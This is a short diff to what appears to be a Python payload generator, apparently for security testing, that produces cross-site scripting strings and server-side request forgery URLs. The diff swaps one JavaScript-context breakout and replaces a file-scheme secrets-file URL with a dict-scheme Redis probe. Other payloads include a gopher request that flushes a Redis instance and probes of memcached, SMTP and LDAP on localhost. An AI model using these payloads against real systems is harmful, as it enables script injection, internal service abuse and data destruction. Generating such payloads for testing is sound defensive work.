@@ -71,7 +71,7 @@ def xss_js_uri(r: random.Random) -> str:
 
 def xss_js_context(r: random.Random) -> str:
     return vpick(r, (f"';{_js(r)};//", f"\";{_js(r)};//", f"</script><script>{_js(r)}</script>",
-                    f"'-{_js(r)}-'", f"\\';{_js(r)}//", f"${{{_js(r)}}}"))
+                    f"'-{_js(r)}-'", f"\\';{_js(r)}//", f"`-{_js(r)}-`"))
 
 
 def xss_svg_math(r: random.Random) -> str:
@@ -183,7 +183,7 @@ def ssrf_ip_obfuscated(r: random.Random) -> str:
 def ssrf_scheme(r: random.Random) -> str:
     return vpick(r, ("gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%20y",
                      "dict://127.0.0.1:11211/stats",
-                    f"file://{pick(r, SECRETS_FILES)}", "ftp://127.0.0.1:21/",
+                    "dict://localhost:6379/info", "ftp://127.0.0.1:21/",
                     "ldap://127.0.0.1:389/dc=example", "tftp://127.0.0.1/x",
                     "gopher://localhost:25/_HELO%20localhost", "jar:http://127.0.0.1!/"))
 
